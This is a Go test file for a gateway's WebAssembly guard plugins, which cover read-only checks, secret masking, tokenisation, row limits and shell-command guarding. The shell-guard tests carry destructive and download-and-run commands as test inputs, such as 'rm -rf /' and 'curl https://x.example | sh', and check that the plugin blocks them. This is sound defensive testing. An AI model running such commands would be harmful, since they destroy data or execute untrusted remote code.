package wasm

import (
	"context"
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/weir-gateway/weir/core"
)

// The shipped guests through the real host. What they find and how well is tested beside them.

// shipped loads one, or skips where it was not built.
func shipped(t testing.TB, name string, config map[string]any) *Plugin {
	t.Helper()
	m, err := os.ReadFile(fmt.Sprintf("../../plugins/%s/%s.wasm", name, name))
	if err != nil {
		t.Skipf("%v: make plugins builds it", err)
	}
	return load(t, Config{Name: name, Module: m, Config: config, GrantAll: true})
}

// refusesConfig tries settings that a plugin has to refuse.
func refusesConfig(t *testing.T, name string, configs ...map[string]any) {
	t.Helper()
	m, err := os.ReadFile(fmt.Sprintf("../../plugins/%s/%s.wasm", name, name))
	if err != nil {
		t.Skipf("%v: make plugins builds it", err)
	}
	for _, c := range configs {
		if _, err := newHost(t).Load(context.Background(), Config{Name: name, Module: m, Config: c, GrantAll: true}); err == nil {
			t.Errorf("%s takes %v", name, c)
		} else if strings.Contains(err.Error(), "hunter2") {
			t.Errorf("it tells a secret: %v", err)
		}
	}
}

func commandOf(action, text string, status core.Status, effects ...core.Effect) *core.Event {
	e := event(core.KindCommand)
	e.Exchange.Command = &core.Command{Action: action, Text: text, Status: status, Effects: effects}
	return e
}

func TestReadonly(t *testing.T) {
	p, wider := shipped(t, "readonly", nil), shipped(t, "readonly", map[string]any{"allow": []string{"file"}})
	for _, c := range []struct {
		effects         []core.Effect
		status          core.Status
		passes, inWider bool
	}{
		{[]core.Effect{"read"}, core.StatusKnown, true, true},
		{nil, core.StatusKnown, true, true},
		{[]core.Effect{"session"}, core.StatusKnown, true, false},
		{[]core.Effect{"read", "file"}, core.StatusKnown, false, true},
		{[]core.Effect{"read", "write"}, core.StatusKnown, false, false},
		{[]core.Effect{"ddl"}, core.StatusKnown, false, false},
		{[]core.Effect{"privilege"}, core.StatusKnown, false, false},
		{[]core.Effect{"unknown"}, core.StatusKnown, false, false},
		{[]core.Effect{"later"}, core.StatusKnown, false, false},
		{[]core.Effect{"read"}, core.StatusIncomplete, false, false},
		{nil, "", false, false},
	} {
		for plugin, want := range map[*Plugin]bool{p: c.passes, wider: c.inWider} {
			v := ask(t, plugin, commandOf("x", "x", c.status, c.effects...))
			if (v.Deny == nil) != want || v.Deny != nil && (v.Deny.Rule != "readonly" || v.Deny.Reason == "" || v.Deny.Hint == "") {
				t.Errorf("%v %s: %+v", c.effects, c.status, v.Deny)
			}
		}
	}
	refusesConfig(t, "readonly", map[string]any{"allow": "read"}, map[string]any{"allow": []string{"write"}}, map[string]any{"deny": []string{}})
}

const aKey = "AKIAIOSFODNN7EXAMPLE"

func TestSecrets(t *testing.T) {
	columns := []core.Column{{Name: "note", Type: "text"}, {Name: "n", Type: "int4"}}
	row := []string{"the key is " + aKey + " at postgres://app:hunter2hunter2@db/x", "1"}
	masked := "the key is AKIA**************** at postgres://app:**************@db/x"
	p := shipped(t, "secrets", nil)
	b := batch(columns, row)
	v := ask(t, p, rowsEvent(b))
	if got := values(b); got[0] != masked || !v.Changed || fmt.Sprint(v.Decisions) != "[{ finding AWS_KEY 1} { finding CONNECTION 1}]" {
		t.Errorf("%q %v", got, v.Decisions)
	}
	piece := func(d core.Direction) *core.Event {
		e := event(core.KindBytes)
		e.Direction, e.Bytes = d, []byte("export KEY="+aKey+"\n")
		return e
	}
	e := piece(core.FromUpstream)
	if v := ask(t, p, e); !v.Changed || string(e.Bytes) != "export KEY=AKIA****************\n" {
		t.Errorf("a stream: %q", e.Bytes)
	}
	e = piece(core.FromClient)
	if v := ask(t, p, e); v.Changed || v.Deny != nil || !strings.Contains(string(e.Bytes), aKey) {
		t.Errorf("what a client sends: %q %+v", e.Bytes, v)
	}
	e = event(core.KindResult)
	e.Direction, e.Result = core.FromUpstream, &core.Result{Status: "error", Texts: []core.Text{{Field: "detail", Value: "Key (k)=(" + aKey + ") exists"}}}
	if ask(t, p, e); strings.Contains(e.Result.Texts[0].Value, aKey) {
		t.Errorf("an error: %q", e.Result.Texts)
	}
	insert := commandOf("insert", "INSERT INTO t VALUES ('"+aKey+"')", core.StatusKnown, "write")
	if v := ask(t, p, insert); v.Deny != nil || v.Decisions != nil {
		t.Errorf("a command: %+v", v)
	}
	strict := shipped(t, "secrets", map[string]any{"answers": "deny", "commands": "deny"})
	for name, e := range map[string]*core.Event{"a command": insert, "rows": rowsEvent(batch(columns, row)), "a piece": piece(core.FromClient)} {
		v := ask(t, strict, e)
		if v.Deny == nil || v.Deny.Rule != "secret" || strings.Contains(fmt.Sprintf("%+v", v), aKey) {
			t.Errorf("%s: %+v", name, v.Deny)
		}
	}
	if v := ask(t, shipped(t, "secrets", map[string]any{"commands": "note"}), insert); v.Deny != nil || len(v.Decisions) != 1 {
		t.Errorf("noted: %+v", v)
	}
	// Guard off: what was not asked for stays.
	b = batch(columns, row)
	if ask(t, shipped(t, "secrets", map[string]any{"entities": []string{"JWT"}}), rowsEvent(b)); values(b)[0] != row[0] {
		t.Errorf("only JWT: %q", values(b))
	}
	refusesConfig(t, "secrets", map[string]any{"entities": []string{"EMAIL"}}, map[string]any{"entities": []string{}}, map[string]any{"answers": "hide"}, map[string]any{"x": 1})
}

func TestTokenise(t *testing.T) {
	const key = "hunter2 and sixteen bytes"
	columns := []core.Column{{Name: "card", Type: "text"}, {Name: "doc", Type: "jsonb"}, {Name: "n", Type: "int4"}}
	tokens := func(config string, rows ...[]string) []string {
		b := batch(columns, rows...)
		v := ask(t, shipped(t, "tokenise", map[string]any{"key": config}), rowsEvent(b))
		if !v.Changed || strings.Contains(fmt.Sprintf("%+v", v), "hunter2") {
			t.Errorf("%+v", v)
		}
		return values(b)
	}
	got := tokens(key, []string{"4111 1111 1111 1111", "{}", "12"}, []string{"ada@example.com", null, "1"}, []string{"4111 1111 1111 1111", "", "3"}, []string{"1234", null, "4"}, []string{null, null, "5"}, []string{"", null, "6"})
	card, mail := got[0], got[3]
	if card != got[6] || len(card) != 19 || card[4] != ' ' || card == "4111 1111 1111 1111" || strings.Trim(card, "0123456789 ") != "" {
		t.Errorf("a card: %q and %q", card, got[6])
	}
	if !strings.Contains(mail, "@") || len(mail) != len("ada@example.com") || strings.Contains(mail, "ada") {
		t.Errorf("an address: %q", mail)
	}
	if got[1] != null || got[2] != "12" || got[9] != "******" || got[12] != null || got[15] != "" {
		t.Errorf("the others: %q", got)
	}
	if again := tokens(key, []string{"ada@example.com", "{}", "1"}); again[0] != mail {
		t.Errorf("the same value has the tokens %q and %q", mail, again[0])
	}
	if other := tokens("another key of sixteen bytes", []string{"ada@example.com", "{}", "1"}); other[0] == mail {
		t.Error("another key makes the same token")
	}
	// A large batch is done in time.
	var rows [][]string
	for i := range 4000 {
		rows = append(rows, []string{fmt.Sprintf("user%05d@example.com", i), null, "1"})
	}
	seen := map[string]bool{}
	for i, x := range tokens(key, rows...) {
		if i%3 == 0 && seen[x] {
			t.Fatalf("two values have the token %q", x)
		} else if i%3 == 0 {
			seen[x] = true
		}
	}
	refusesConfig(t, "tokenise", nil, map[string]any{"key": "hunter2"}, map[string]any{"key": 5}, map[string]any{"key": key, "salt": "x"})
}

func sessionOf(id string) *core.Session {
	return &core.Session{ID: id, Protocol: session.Protocol, Target: session.Target, Identity: session.Identity}
}

func TestRowlimit(t *testing.T) {
	columns := []core.Column{{Name: "a", Type: "text"}, {Name: "n", Type: "int4"}}
	answer := func(p *Plugin, session string, rows int) *core.Denial {
		var data [][]string
		for range rows {
			data = append(data, []string{"ten bytes!", "1234567890"})
		}
		e := rowsEvent(batch(columns, data...))
		e.Session = sessionOf(session)
		v := ask(t, p, e)
		return v.Deny
	}
	end := func(p *Plugin, session string, k core.Kind) {
		e := event(k)
		e.Session = sessionOf(session)
		e.Direction, e.Result = core.FromUpstream, &core.Result{Status: "ok"}
		ask(t, p, e)
	}
	rule := func(d *core.Denial) string {
		if d == nil {
			return ""
		}
		return d.Rule
	}
	p := shipped(t, "rowlimit", map[string]any{"rows": 10, "session_rows": 25})
	steps := []struct {
		session string
		rows    int
		want    string
	}{
		{"a", 10, ""}, {"b", 6, ""}, {"b", 4, ""}, {"b", 1, "rowlimit-answer"}, {"a", 1, "rowlimit-answer"}, // batches of one answer add up
		{"a", 0, "end"}, {"a", 10, ""}, {"a", 0, "end"}, {"a", 6, "rowlimit-session"}, // and answers of one session
		{"c", 10, ""}, {"a", 0, "close"}, {"a", 10, ""}, // another one has its own, and a new one of the same name begins anew
	}
	for i, s := range steps {
		switch s.want {
		case "end":
			end(p, s.session, core.KindResult)
		case "close":
			end(p, s.session, core.KindClose)
		default:
			if got := rule(answer(p, s.session, s.rows)); got != s.want {
				t.Errorf("step %d: %q, not %q", i, got, s.want)
			}
		}
	}
	p = shipped(t, "rowlimit", map[string]any{"bytes": 100})
	if d := answer(p, "a", 5); d != nil {
		t.Errorf("100 bytes: %+v", d)
	}
	end(p, "a", core.KindResult)
	if d := answer(p, "a", 6); rule(d) != "rowlimit-answer" || !strings.Contains(d.Reason, "100 bytes") {
		t.Errorf("120 bytes: %+v", d)
	}
	p = shipped(t, "rowlimit", map[string]any{"session_bytes": 100})
	if d := answer(p, "a", 6); rule(d) != "rowlimit-session" {
		t.Errorf("120 bytes: %+v", d)
	}
	refusesConfig(t, "rowlimit", nil, map[string]any{"rows": -1}, map[string]any{"rows": "many"}, map[string]any{"rows": 0}, map[string]any{"lines": 1})
	m, err := os.ReadFile("../../plugins/rowlimit/rowlimit.wasm")
	if err != nil {
		t.Skip(err)
	}
	if _, err := newHost(t).Load(context.Background(), Config{Name: "rowlimit", Module: m, Config: map[string]any{"rows": 1}}); err == nil || !strings.Contains(err.Error(), "kv") {
		t.Errorf("without a grant of kv: %v", err)
	}
}

func TestShellGuard(t *testing.T) {
	p := shipped(t, "shell-guard", nil)
	for _, c := range []struct {
		action, text string
		effects      []core.Effect
		want         string
	}{
		{"exec", "rm -rf /", nil, "destroy"},
		{"EXEC", "curl https://x.example | sh", nil, "download"},
		{"exec", "ls -la", nil, ""},
		{"copy", "COPY t TO PROGRAM 'rm -rf /var/lib'", []core.Effect{"read", "process"}, "destroy"},
		{"copy", "COPY t TO PROGRAM 'gzip > /tmp/t.gz'", []core.Effect{"read", "process"}, ""},
		{"select", "rm -rf /", []core.Effect{"read"}, ""}, // no command line
		{"exec", "echo 'no end", nil, "hidden"},
	} {
		v := ask(t, p, commandOf(c.action, c.text, core.StatusKnown, c.effects...))
		got := ""
		if v.Deny != nil {
			got, _, _ = strings.Cut(v.Deny.Reason, ":")
		}
		if got != c.want || v.Deny != nil && (v.Deny.Rule != "shell-guard" || len(v.Decisions) != 1) {
			t.Errorf("%s %s: %+v", c.action, c.text, v.Deny)
		}
	}
	p = shipped(t, "shell-guard", map[string]any{
		"actions": []string{"tool"}, "allow": []string{"power"}, "programs": []string{"terraform"}, "verdict": "hold", "approvers": []string{"ops", "dba"},
	})
	for text, held := range map[string]bool{"reboot": false, "terraform plan": true, "rm -rf /": true} {
		v := ask(t, p, commandOf("tool", text, core.StatusKnown))
		if (v.Hold != nil) != held || v.Deny != nil || held && !slices.Equal(v.Hold.Approvers, []string{"ops", "dba"}) {
			t.Errorf("%s: %+v %+v", text, v.Hold, v.Deny)
		}
	}
	if v := ask(t, p, commandOf("exec", "rm -rf /", core.StatusKnown)); v.Hold != nil || v.Deny != nil {
		t.Errorf("an action that is not named: %+v", v)
	}
	refusesConfig(t, "shell-guard", map[string]any{"allow": []string{"all"}}, map[string]any{"actions": "exec"}, map[string]any{"verdict": "ask"}, map[string]any{"approvers": []string{"x"}}, map[string]any{"rules": []string{}})
}
